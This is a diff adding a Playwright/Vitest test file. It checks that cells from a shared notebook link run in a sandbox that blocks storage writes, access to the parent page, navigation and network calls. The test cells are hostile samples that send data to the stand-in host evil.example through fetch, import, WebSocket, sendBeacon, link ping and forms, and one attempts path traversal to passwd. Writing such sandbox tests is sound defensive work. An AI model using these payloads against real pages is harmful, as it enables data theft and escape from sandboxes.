@@ -1,0 +1,259 @@
+import {createServer} from "node:http";
+import type {AddressInfo} from "node:net";
+import type {Frame, Page} from "playwright-core";
+import {afterAll, beforeAll, describe, expect, it} from "vitest";
+import {apart, arrive, frameOf, linkWith, runApart} from "./apart.ts";
+import {chain, openAt, settled} from "./chapter.ts";
+import {launchChromium} from "./chromium.ts";
+import {expectProblem, foreignRequests, openPage, site} from "./harness.ts";
+import {edit, reads, stored} from "./reader.ts";
+
+/** What a cell from a link answers, as text: the value of an async function's body, or the name of what it threw. */
+const cell = (body: string) =>
+  `const answer = await (async () => {${body}})().then(String, (error) => error.name);\ndisplay(html\`<p>\${answer}</p>\`);`;
+
+/** Everything that a browser says of what the policy and the sandbox have refused. */
+const refused = /Content Security Policy|sandboxed|Unsafe attempt|Not allowed to|Failed to execute|net::ERR_|permission|policy/i;
+
+/** Runs a cell from a link; resolves with its answer. */
+async function attack(body: string): Promise<{page: Page; frame: Frame; url: string; answer: string}> {
+  const {page, url} = await arrive({mine: cell(body)});
+  expectProblem(page, refused);
+  const frame = await runApart(page);
+  const answer = (await frame.locator('[data-cell="mine"] > .cell-output p').textContent()) ?? "";
+  return {page, frame, url, answer};
+}
+
+/** The book and its next visit are as if nothing had been: one page, its own address, its own text, nothing stored. */
+async function untouched(page: Page, url: string): Promise<void> {
+  expect(page.url().replace(/#.*/, "")).toBe(url);
+  expect(page.context().pages()).toHaveLength(1);
+  expect(foreignRequests(page)).toEqual([]);
+  await page.goto("about:blank");
+  await page.goto(url);
+  await settled(page);
+  await reads(page, "c", "21");
+  const kept = await page.evaluate(async () => {
+    const storage = [...Object.keys(localStorage), ...Object.keys(sessionStorage)];
+    const databases = (await indexedDB.databases()).map(({name}) => name).filter((name) => name !== "gantry");
+    const workers = await navigator.serviceWorker.getRegistrations();
+    return [
+      ...storage,
+      ...databases,
+      ...(await caches.keys()),
+      ...workers.map(({scope}) => scope),
+      document.cookie,
+      document.title
+    ];
+  });
+  expect(kept).toEqual(["", "Chapter"]);
+}
+
+const other = "https://evil.example/?secret";
+
+describe("a cell from a link, after Run", () => {
+  it.each([
+    ["writes to the caches", 'await (await caches.open("x")).put("/tensors.html", new Response("forged"))', "SecurityError"],
+    [
+      "writes to IndexedDB",
+      'return await new Promise((done, fail) => { const r = indexedDB.open("x"); r.onsuccess = () => done("open"); r.onerror = () => fail(r.error); })',
+      "SecurityError"
+    ],
+    ["writes to localStorage", 'localStorage.setItem("gantry:edits:/chapter", "1")', "SecurityError"],
+    ["writes to sessionStorage", 'sessionStorage.setItem("x", "1")', "SecurityError"],
+    ["sets a cookie", 'document.cookie = "x=1"', "SecurityError"],
+    [
+      "registers a service worker",
+      'await navigator.serviceWorker.register("sw.js")',
+      /SecurityError|TypeError|NotSupportedError/
+    ],
+    ["starts a shared worker", `new SharedWorker(URL.createObjectURL(new Blob(["1"])))`, "SecurityError"],
+    ["takes a private folder", "await navigator.storage.getDirectory()", /SecurityError|TypeError/],
+    ["reads the book", "return parent.document.title", "SecurityError"],
+    ["reads the book's storage", "return parent.localStorage.length", "SecurityError"],
+    ["writes to the clipboard", 'await navigator.clipboard.writeText("x")', /NotAllowedError|TypeError/],
+    ["opens a window", `return open("${other}")`, "null"],
+    ["moves the book's window", `top.location = "${other}"`, "SecurityError"],
+    ["moves the book's window, otherwise", `top.location.replace("${other}")`, "SecurityError"],
+    ["asks another host", `await fetch("${other}")`, "TypeError"],
+    ["asks another host for a script", `await import("${other}")`, "Error"],
+    [
+      "asks one of the hosts with MNIST",
+      'await fetch("https://storage.googleapis.com/cvdf-datasets/mnist/?secret")',
+      "TypeError"
+    ],
+    [
+      "opens a socket",
+      `return await new Promise((done) => { const s = new WebSocket("wss://evil.example/"); s.onopen = () => done("open"); s.onerror = () => done("refused"); })`,
+      "refused"
+    ],
+    ["makes a call", "return [typeof RTCPeerConnection, typeof webkitRTCPeerConnection].join()", "undefined,undefined"],
+    ["asks the book for a file that is none of its own", 'return (await fetch("licences.txt")).status', "404"],
+    [
+      "asks the book for a file outside",
+      'return (await fetch(new URL("/", document.baseURI).href + "%2e%2e/passwd")).status',
+      "404"
+    ],
+    ["evaluates text", 'return (0, eval)("1")', "EvalError"]
+  ])("%s: refused", async (_what, body, expected) => {
+    const {page, url, answer} = await attack(body);
+    expect(answer).toMatch(typeof expected === "string" ? new RegExp(`^${expected}$`) : expected);
+    await untouched(page, url);
+  });
+
+  it.each([
+    [
+      "an image",
+      `const i = new Image(); await new Promise((done, fail) => { i.onload = done; i.onerror = () => done("refused"); i.src = "${other}"; }); return "refused"`
+    ],
+    [
+      "a style",
+      `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${other}"; return await new Promise((done) => { l.onload = () => done("loaded"); l.onerror = () => done("refused"); document.head.append(l); })`
+    ],
+    [
+      "a prefetched page",
+      `const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${other}"; document.head.append(l); return "refused"`
+    ],
+    ["a beacon", `navigator.sendBeacon("${other}", "x"); return "refused"`],
+    [
+      "a frame of the book's own text without a policy",
+      `const f = document.createElement("iframe"); const loaded = new Promise((done) => (f.onload = done)); f.src = new URL("licences.txt", document.baseURI).href; document.body.append(f); await loaded; return f.contentDocument === null ? "refused" : "read"`
+    ],
+    ["an object", `const o = document.createElement("object"); o.data = "${other}"; document.body.append(o); return "refused"`],
+    [
+      "a link that is clicked with a ping",
+      `const a = document.createElement("a"); a.href = "#x"; a.ping = "${other}"; document.body.append(a); a.click(); return "refused"`
+    ],
+    [
+      "a click that opens the book's window",
+      `const a = document.createElement("a"); a.href = "${other}"; a.target = "_top"; a.addEventListener("click", (e) => e.stopPropagation()); document.body.append(a); a.click(); return "refused"`
+    ],
+    [
+      "a form for the book's window",
+      `document.body.insertAdjacentHTML("beforeend", '<form id="f" target="_top" action="${other}"></form>'); f.submit(); return "refused"`
+    ],
+    [
+      "its worker",
+      `const w = new Worker(URL.createObjectURL(new Blob(["const f = (p) => p.then(() => 'open', () => 'refused'); Promise.all([f(fetch('${other}')), f((async () => caches.open('x'))()), f((async () => indexedDB.open('x'))()), f((async () => importScripts('${other}'))())]).then((all) => postMessage(String(new Set(all).size === 1 ? all[0] : all)))"]))); return await new Promise((done) => (w.onmessage = ({data}) => done(data)))`
+    ],
+    [
+      "the other tabs' channel",
+      `new BroadcastChannel("gantry:edits:" + new URL("chapter", document.baseURI).pathname).postMessage({changed: [{id: "a", kind: "ts", original: null, text: "const a = 9;", ran: "const a = 9;"}], removed: [], decided: true}); return "refused"`
+    ],
+    ["a message to the book", `parent.postMessage({edits: [], failed: "x", boot: "taken = 1"}, "*"); return "refused"`]
+  ])("by way of %s: refused", async (_what, body) => {
+    const {page, url, answer} = await attack(body);
+    expect(answer).toBe("refused");
+    await untouched(page, url);
+  });
+
+  it("finds no way to call in a frame within the frame, not even by the page's own first script", async () => {
+    const script = `parent.postMessage(typeof RTCPeerConnection, "*")`;
+    const {page, url, answer} = await attack(`
+      const first = document.querySelector("head script").textContent;
+      const source = URL.createObjectURL(new Blob([${JSON.stringify(script)}], {type: "text/javascript"}));
+      const heard = [];
+      addEventListener("message", ({data}) => heard.push(data));
+      const blank = document.createElement("iframe");
+      document.body.append(blank);
+      try { heard.push(typeof blank.contentWindow.RTCPeerConnection) } catch {}
+      for (const text of ["<script>" + first + "<" + "/script>", "<script src=" + source + "><" + "/script>", "<script>${script.replaceAll('"', "'")}<" + "/script>"]) {
+        const f = document.createElement("iframe");
+        const loaded = new Promise((done) => (f.onload = done));
+        f.srcdoc = text;
+        document.body.append(f);
+        await loaded;
+        f.contentWindow.postMessage({boot: ${JSON.stringify(script)}}, "*");
+      }
+      // What was posted there and back has come by then.
+      const {port1, port2} = new MessageChannel();
+      for (let i = 0; i < 50; i++) { const turn = new Promise((done) => (port2.onmessage = done)); port1.postMessage(0); await turn; await new Promise(requestAnimationFrame); }
+      return heard.join() || "nothing";`);
+    expect(answer).toBe("nothing");
+    await untouched(page, url);
+  });
+
+  it.each([
+    ["an address", `location.href = "${other}"`],
+    ["an address of the book", 'location.href = new URL("licences.txt", document.baseURI).href'],
+    ["a refresh", `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=${other}">')`],
+    ["a form", `document.body.insertAdjacentHTML("beforeend", '<form id="f" action="${other}"></form>'); f.submit()`],
+    [
+      "a link",
+      `const a = document.createElement("a"); a.href = "${other}"; a.addEventListener("click", (e) => e.stopPropagation()); document.body.append(a); a.click()`
+    ],
+    [
+      "a file to download from there",
+      `const a = document.createElement("a"); a.href = "${other}"; a.download = "x"; document.body.append(a); a.click()`
+    ],
+    ["a page made up", 'location.href = URL.createObjectURL(new Blob(["<p>x"], {type: "text/html"}))'],
+    ["a reload", "location.reload()"]
+  ])("that leaves by %s ends its own run: no host hears of it, and the book stays", async (_what, body) => {
+    const {page, url} = await arrive({mine: `${body};`});
+    expectProblem(page, refused);
+    await page.getByRole("button", {name: "Run the changes"}).click();
+    await page.getByText("A cell tried to leave the page, so the run has ended.").waitFor();
+    expect(page.frames()).toHaveLength(1);
+    await page.getByRole("button", {name: "Back to my book"}).click();
+    await page.getByRole("group", {name: "mine, changed by this link, not run"}).waitFor();
+    await untouched(page, url);
+  });
+
+  it("cannot take the book's window back to where it came from", async () => {
+    const {page, url} = await arrive({});
+    await page.goto(`${url}?before`);
+    await page.goto(
+      await linkWith(
+        url,
+        {mine: cell('history.back(); history.go(-1); await new Promise(requestAnimationFrame); return "here"')},
+        chain
+      )
+    );
+    await settled(page);
+    const frame = await runApart(page);
+    await frame.getByText("here").waitFor();
+    await frame.evaluate("new Promise((done) => requestAnimationFrame(() => requestIdleCallback(done)))");
+    expect(page.url().replace(/#.*/, "")).toBe(url);
+  });
+
+  it("has its text shown once more when it says that it is another: nothing runs in the book", async () => {
+    const {page} = await attack(
+      'apart$.keep([{id: "b", kind: "ts", original: null, text: "globalThis.taken = 1; const b = 1;", ran: "globalThis.taken = 1; const b = 1;"}]); return 1'
+    );
+    await page.getByRole("button", {name: "Keep these changes"}).click();
+    await page.getByRole("group", {name: "b, changed by this link, not run"}).waitFor();
+    expect(await page.evaluate("globalThis.taken")).toBeUndefined();
+  });
+
+  it("leaves the reader's own changes as they were", async () => {
+    const {page, url} = await arrive({});
+    await edit(page, "b", "const b = 5;\ndisplay(b);");
+    await stored(page, 1);
+    const link = await linkWith(url, {mine: cell('for (const name of ["gantry"]) indexedDB.deleteDatabase(name); return 1')});
+    const next = await openAt(link, {context: page.context()});
+    await (await runApart(next)).getByText("SecurityError").waitFor();
+    await page.reload();
+    await settled(page);
+    await reads(page, "c", "6");
+  });
+});
+
+describe("in a frame that a browser gives a process of its own", () => {
+  it("a script that never ends cannot keep the reader: Back takes it away", async () => {
+    const browser = await launchChromium(["--site-per-process", "--enable-features=IsolateSandboxedIframes"]);
+    try {
+      const page = await browser.newPage();
+      await page.goto(
+        await linkWith(await site("index.html"), {mine: 'setTimeout(() => { document.title = "looping"; for (;;); });'})
+      );
+      await settled(page);
+      await page.getByRole("button", {name: "Run the changes"}).click();
+      await frameOf(page);
+      await page.getByRole("button", {name: "Back to my book"}).click();
+      await page.getByRole("group", {name: "mine, changed by this link, not run"}).waitFor();
+      expect(page.frames()).toHaveLength(1);
+    } finally {
+      await browser.close();
+    }
+  });
+});
